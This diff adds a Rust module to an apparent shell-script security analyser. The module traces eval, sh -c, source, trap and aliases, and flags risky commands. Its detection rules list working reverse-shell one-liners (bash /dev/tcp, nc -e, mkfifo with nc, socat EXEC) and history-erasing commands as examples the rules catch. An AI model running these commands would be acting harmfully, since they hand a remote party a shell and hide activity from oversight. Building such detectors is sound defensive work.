@@ -1,0 +1,399 @@
+//! Shells, `eval`, and the builtins that change what follows.
+
+use crate::path::Path;
+use crate::rule::Rule;
+use crate::scope::Scope;
+use crate::script::Script;
+use crate::tools::{Call, computed, exfiltration, span_of};
+use crate::value::{Carries, HOME, MAYBE, Stream, UNKNOWN, Value};
+use crate::verdict::{Category, RiskLevel};
+use crate::walk::Walker;
+
+static HISTORY: Rule = Rule {
+    id: "history-cleared",
+    category: Category::Obfuscation,
+    summary: "clears or switches off the shell's history",
+    catches: &["history -c", "unset HISTFILE", "export HISTFILE=/dev/null"],
+    leaves: &["history", "history | grep ssh", "history -d 12"],
+};
+
+static REMOTE_SHELL: Rule = Rule {
+    id: "remote-shell",
+    category: Category::NetworkExecution,
+    summary: "connects a shell to the network",
+    catches: &[
+        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
+        "nc -e /bin/sh 10.0.0.1 4242",
+        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f",
+        "socat TCP:10.0.0.1:4242 EXEC:/bin/sh",
+    ],
+    leaves: &[
+        "bash -i",
+        "nc -zv localhost 80",
+        "echo > /dev/tcp/localhost/80",
+    ],
+};
+
+pub(crate) static RULES: &[&Rule] = &[&HISTORY, &REMOTE_SHELL];
+
+/// Notes a shell that listens to the network.
+pub(crate) fn report_remote_shell(walker: &mut Walker<'_>, span: std::ops::Range<usize>) {
+    let explanation = "This lets someone on the network run commands here.";
+    walker.report(&REMOTE_SHELL, RiskLevel::Critical, span, explanation, None);
+}
+
+/// Whether a name is a shell's.
+pub(crate) fn is_shell(name: &str) -> bool {
+    let name = name.rsplit('/').next().unwrap_or(name);
+    matches!(
+        name,
+        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "mksh" | "rbash" | "csh" | "tcsh"
+    )
+}
+
+/// Runs the text of a value as a script of its own.
+pub(crate) fn run_value(
+    walker: &mut Walker<'_>,
+    value: &Value,
+    scope: &mut Scope,
+    input: Stream,
+) -> Stream {
+    if value.carries != Carries::Nothing {
+        computed::report_code(walker, value.carries, value.span.clone());
+    } else if value.is_wholly_unknown() {
+        computed::report_code(walker, Carries::Computed, value.span.clone());
+    }
+    if value.is_wholly_unknown() || value.text.is_empty() {
+        return Stream::Other(value.carries);
+    }
+    // What is not known stays a variable in the text that is read: the shell will see its value as code.
+    let text = code_of(&value.text);
+    let origin = walker.origin_of(value);
+    walker.script(&Script::new(text, origin), scope, input)
+}
+
+/// Text with markers as text that can be read again.
+fn code_of(text: &str) -> String {
+    if !text.contains(crate::value::is_marker) {
+        return text.to_owned();
+    }
+    let mut code = String::with_capacity(text.len() + 16);
+    for c in text.chars() {
+        match c {
+            HOME => code.push('~'),
+            crate::value::START => code.push('.'),
+            crate::value::GLOB => code.push('*'),
+            MAYBE => code.push_str("${MAYBE}"),
+            UNKNOWN => code.push_str("${MAYBE:?}"),
+            c => code.push(c),
+        }
+    }
+    code
+}
+
+/// Runs words joined by blanks, as `eval`, `ssh` and `watch` do.
+pub(crate) fn run_words(
+    walker: &mut Walker<'_>,
+    words: &[Value],
+    scope: &mut Scope,
+    input: Stream,
+) -> Stream {
+    match words {
+        [] => Stream::Nothing,
+        [only] => run_value(walker, only, scope, input),
+        _ => {
+            let mut joined = Value::new("", span_of(words));
+            for word in words {
+                if !joined.text.is_empty() {
+                    joined.text.push(' ');
+                }
+                joined.text.push_str(&word.text);
+                joined.carries = joined.carries.max(word.carries);
+            }
+            joined.limit();
+            run_value(walker, &joined, scope, input)
+        }
+    }
+}
+
+/// Runs what a shell reads from its standard input.
+pub(crate) fn run_stream(
+    walker: &mut Walker<'_>,
+    call: &Call<'_>,
+    input: Stream,
+    scope: &mut Scope,
+) -> Stream {
+    match input {
+        Stream::Nothing | Stream::File | Stream::Shell => Stream::Nothing,
+        Stream::Text(text) => run_value(
+            walker,
+            &Value::new(text, call.span.clone()),
+            scope,
+            Stream::Nothing,
+        ),
+        Stream::Endless => Stream::Nothing,
+        other => {
+            computed::report_code(walker, other.carries(), call.span.clone());
+            Stream::Other(other.carries())
+        }
+    }
+}
+
+/// A shell: `-c` and its text, a file, or its standard input.
+pub(crate) fn judge_shell(walker: &mut Walker<'_>, call: &Call<'_>, scope: &mut Scope) -> Stream {
+    let mut inner = scope.clone();
+    inner.positional = None;
+    let mut reads_input = true;
+    let mut index = 0;
+    while let Some(argument) = call.arguments.get(index) {
+        index += 1;
+        let text = argument.text.as_str();
+        let code = text
+            .strip_prefix('-')
+            .is_some_and(|letters| !text.starts_with("--") && letters.contains('c'));
+        if code || matches!(text, "-Command" | "--command" | "/c") {
+            let Some(script) = call.arguments[index..]
+                .iter()
+                .find(|next| !next.text.starts_with('-'))
+            else {
+                return Stream::Nothing;
+            };
+            let after = call
+                .arguments
+                .iter()
+                .skip_while(|next| !std::ptr::eq(*next, script))
+                .skip(2);
+            let arguments: Vec<Value> = after.cloned().collect();
+            if !arguments.is_empty() {
+                inner.positional = Some(arguments.into());
+            }
+            let output = run_value(walker, script, &mut inner, call.input.clone());
+            scope.keep_fetched(&inner);
+            return output;
+        }
+        match text {
+            "-s" | "-" | "/dev/stdin" => break,
+            "-o" | "+o" | "-O" | "--rcfile" | "--init-file" => index += 1,
+            _ if text.starts_with(['-', '+']) => {}
+            _ => {
+                reads_input = false;
+                run_file(walker, argument, call, &mut inner);
+                break;
+            }
+        }
+    }
+    if reads_input {
+        let interactive = call.has_letter('i');
+        let output = run_stream(walker, call, call.input.clone(), &mut inner);
+        return if interactive { Stream::Shell } else { output };
+    }
+    Stream::Other(Carries::Nothing)
+}
+
+/// A file that is run as a script.
+pub(crate) fn run_file(walker: &mut Walker<'_>, file: &Value, call: &Call<'_>, scope: &mut Scope) {
+    if let Some(pipe) = &file.pipe {
+        run_stream(walker, call, (**pipe).clone(), scope);
+    } else if file.is_wholly_unknown() {
+        computed::report_code(
+            walker,
+            file.carries.max(Carries::Computed),
+            file.span.clone(),
+        );
+    } else {
+        if let Stream::Other(carries @ (Carries::Fetched | Carries::Decoded)) =
+            walker.contents(file, scope)
+        {
+            computed::report_code(walker, carries, call.span.clone());
+        }
+        // The network is a file system too, for those who mount it so.
+        if file.text.starts_with("http://") || file.text.starts_with("https://") {
+            computed::report_code(walker, Carries::Fetched, file.span.clone());
+        }
+    }
+}
+
+/// `cd` and `pushd`: what follows happens elsewhere.
+pub(crate) fn judge_cd(call: &Call<'_>, scope: &mut Scope) -> Stream {
+    let target = call
+        .arguments
+        .iter()
+        .find(|argument| argument.text == "-" || !argument.text.starts_with('-'));
+    let Some(target) = target else {
+        HOME.to_string().clone_into(&mut scope.directory);
+        return Stream::Nothing;
+    };
+    let text = target.text.as_str();
+    scope.directory = if text == "-" || call.name == "popd" {
+        UNKNOWN.to_string()
+    } else if text.chars().all(|c| c == MAYBE) {
+        // Without quotes an empty variable leaves `cd`, which goes home.
+        if target.quoted {
+            UNKNOWN.to_string()
+        } else {
+            format!("{HOME}/{MAYBE}")
+        }
+    } else if text.starts_with(['/', HOME, UNKNOWN, MAYBE, crate::value::START]) {
+        text.to_owned()
+    } else {
+        Path::resolve(&format!("{}/{text}", scope.directory), None).to_string()
+    };
+    Stream::Nothing
+}
+
+/// The builtins that set, run or hide something.
+pub(crate) fn judge_builtin(
+    walker: &mut Walker<'_>,
+    call: &Call<'_>,
+    words: &[Value],
+    scope: &mut Scope,
+) -> Stream {
+    match call.name {
+        "eval" => run_words(walker, call.arguments, scope, call.input.clone()),
+        "exec" => {
+            let rest = call
+                .arguments
+                .iter()
+                .position(|argument| !argument.text.starts_with('-'));
+            rest.map_or(Stream::Nothing, |first| {
+                walker.judge(&call.arguments[first..], call.input.clone(), scope)
+            })
+        }
+        "source" | "." => {
+            if let Some(file) = call.arguments.first() {
+                run_file(walker, file, call, scope);
+            }
+            Stream::Nothing
+        }
+        "trap" => {
+            if let Some(code) = call
+                .arguments
+                .iter()
+                .find(|argument| !argument.text.starts_with('-'))
+            {
+                let mut inner = scope.clone();
+                if call.arguments.len() > 1 && !code.text.is_empty() {
+                    run_value(walker, code, &mut inner, Stream::Nothing);
+                }
+            }
+            Stream::Nothing
+        }
+        "alias" => {
+            for argument in call.arguments {
+                if let Some((name, text)) = argument.text.split_once('=') {
+                    let mut value = argument.clone();
+                    value.text = text.to_owned();
+                    let mut inner = scope.clone();
+                    if argument.carries == Carries::Nothing && !argument.is_unknown() {
+                        run_value(walker, &value, &mut inner, Stream::Nothing);
+                    }
+                    scope.set_alias(name, text);
+                }
+            }
+            Stream::Nothing
+        }
+        "read" | "mapfile" | "readarray" => {
+            let carries = call.input.carries();
+            for name in call.words() {
+                let mut value = Value::new(MAYBE, call.span.clone());
+                value.carries = carries;
+                if let Stream::Names(found) = &call.input
+                    && let Some(found) = found.first()
+                {
+                    value = found_name(&found.root, found.narrowed, &call.span);
+                }
+                scope.set(name, vec![value]);
+            }
+            Stream::Nothing
+        }
+        "unset" => {
+            for name in call.words() {
+                scope.unset(name);
+            }
+            if call.words().contains(&"HISTFILE") {
+                call.report(
+                    walker,
+                    &HISTORY,
+                    RiskLevel::Moderate,
+                    "This switches the shell's history off.",
+                );
+            }
+            Stream::Nothing
+        }
+        "set" => {
+            if let [dashes, rest @ ..] = call.arguments
+                && dashes.text == "--"
+            {
+                scope.positional = Some(rest.into());
+            }
+            Stream::Nothing
+        }
+        "history" if call.has_letter('c') => {
+            call.report(
+                walker,
+                &HISTORY,
+                RiskLevel::Moderate,
+                "This clears the shell's history.",
+            );
+            Stream::Nothing
+        }
+        "history" | "fc" => Stream::Other(Carries::Secret),
+        "export" => {
+            if call.arguments.iter().any(|argument| {
+                matches!(
+                    argument.text.as_str(),
+                    "HISTFILE=/dev/null" | "HISTSIZE=0" | "HISTFILE="
+                )
+            }) {
+                call.report(
+                    walker,
+                    &HISTORY,
+                    RiskLevel::Moderate,
+                    "This switches the shell's history off.",
+                );
+            }
+            Stream::Nothing
+        }
+        "sleep" | "wait" => {
+            if let Some(waits) = walker.endless_loops.last_mut() {
+                *waits = true;
+            }
+            Stream::Nothing
+        }
+        _ => {
+            exfiltration::judge_arguments(walker, call, scope);
+            debug_assert!(!words.is_empty(), "a call has at least its name");
+            Stream::Nothing
+        }
+    }
+}
+
+/// A name that a search printed, as a value.
+fn found_name(root: &Value, narrowed: bool, span: &std::ops::Range<usize>) -> Value {
+    let start = root.text.trim_end_matches('/');
+    let last = if narrowed {
+        UNKNOWN
+    } else {
+        crate::value::GLOB
+    };
+    Value::new(format!("{start}/{last}"), span.clone())
+}
+
+/// A command whose name is an alias: its text, then the words that follow it.
+pub(crate) fn run_alias(
+    walker: &mut Walker<'_>,
+    text: &str,
+    words: &[Value],
+    input: Stream,
+    scope: &mut Scope,
+) -> Stream {
+    let mut expanded: Vec<Value> = text
+        .split_whitespace()
+        .map(|word| Value::new(word, span_of(words)))
+        .collect();
+    expanded.extend(words.iter().skip(1).cloned());
+    if expanded.is_empty() {
+        return Stream::Nothing;
+    }
+    walker.judge(&expanded, input, scope)
+}
